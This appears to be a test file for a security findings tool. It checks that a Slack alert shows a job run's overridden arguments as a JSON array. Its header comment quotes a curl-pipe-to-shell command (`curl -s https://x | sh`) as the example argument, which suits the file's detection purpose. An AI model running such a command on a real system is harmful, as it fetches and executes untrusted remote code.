// A job run's overridden arguments in the Slack message: each argument is a string of its own (`sh -c 'curl ... | sh'`
// is two), and an argument may hold a comma. Joined with ", " like other lists, `-c, curl -s https://x | sh` hid where
// one ended and the next began: the reader could not tell the command that ran. They are shown as a JSON array.
import { describe, expect, it } from 'vitest';
import type { Finding } from '../../functions/findings/finding.js';
import { renderSlack } from '../../sinks/slack.js';
import { synthetic } from '../support/entries.js';
import { findingsOf } from '../support/run.js';

/** The evidence lines of the message (one text block per finding). */
function evidenceText(finding: Finding): string {
  return renderSlack(finding, { channel: 'C1' })
    .blocks.flatMap((block) => (block.type === 'section' && block.text ? [block.text.text] : []))
    .join('\n');
}

describe("Slack: a job run's overridden arguments", () => {
  it('are shown as a JSON array, so an argument holding a comma stays one argument', async () => {
    const [finding] = (await findingsOf([synthetic('job-v2-RunJob-overrides')])).filter((f) => f.rule === 'job-run-overrides');
    const args = finding?.evidence['args'];
    expect(Array.isArray(args) && args.length).toBe(2);
    expect(evidenceText(finding!)).toContain(`args: ${JSON.stringify(args)}`);
  });
});
